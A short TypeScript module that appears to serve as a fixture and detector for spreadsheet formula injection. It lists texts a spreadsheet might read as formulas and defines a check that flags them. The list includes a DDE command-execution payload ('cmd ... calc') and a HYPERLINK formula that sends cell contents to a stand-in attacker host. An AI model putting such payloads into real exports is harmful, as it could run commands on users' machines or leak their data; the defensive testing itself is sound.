/** Texts that some spreadsheet would take for a formula, or choke on. */
export const INJECTIONS: readonly string[] = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n@x',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1',
  '﹢1',
  '⁺1',
  '−1',
  '_x003D_1+1',
  '";=1+1;"',
  'x;=1+1',
  'x; "＝1',
  'a"b,c\r\nd',
  '\ufffe\uffff=1',
  '\ud800=1',
  '+1 (555) 010-0000',
];

/** Whether a program could take a cell's text for a formula. */
export function looksLikeFormula(text: string): boolean {
  return (
    /^[\s\p{Cf}]*[=+\-@＝＋－＠\u2212]/u.test(text.normalize('NFKC')) || /^[\t\r\n]/.test(text)
  );
}
